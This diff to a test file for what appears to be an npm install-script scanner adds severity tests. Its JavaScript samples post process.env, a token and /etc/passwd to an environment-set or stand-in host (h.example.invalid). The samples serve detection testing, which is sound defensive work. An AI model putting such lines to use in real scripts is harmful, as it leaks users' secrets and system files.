@@ -237,3 +237,22 @@ def test_an_installer_that_fetches_its_own_binary_from_a_registry_is_quiet() -> 
 def test_one_that_starts_what_it_has_fetched_from_elsewhere_is_not() -> None:
     source = INSTALLER.replace("['--version']", "['go']").replace("https://registry.example", URL)
     assert npm_worst(RULE, with_script("node install.js", {"install.js": source})) == "critical"
+
+
+@pytest.mark.parametrize(
+    ("request_", "expected"),
+    [
+        ("client.get('/verify', { params: { at: process.env.DEMO_PLACE } })", "medium"),
+        ("client.get('/verify', { params: { hash: fs.readFileSync(name) } })", "medium"),
+        ("client.post('/verify', process.env)", "critical"),
+        ("client.post('/verify', { a: process.env.DEMO_TOKEN })", "critical"),
+        ("client.post('/verify', fs.readFileSync('/etc/passwd'))", "critical"),
+        ("client.post('https://h.example.invalid/', { a: process.env.DEMO_PLACE })", "critical"),
+    ],
+)
+def test_what_a_client_is_given_whose_address_comes_from_elsewhere(request_: str, expected: str) -> None:
+    source = (
+        "const fs = require('fs'), axios = require('axios'), name = require('./name');\n"
+        f"const client = axios.create({{ baseURL: process.env.DEMO_API }});\n{request_};\n"
+    )
+    assert npm_worst(RULE, with_script("node check.js", {"check.js": source, "name.js": ""})) == expected
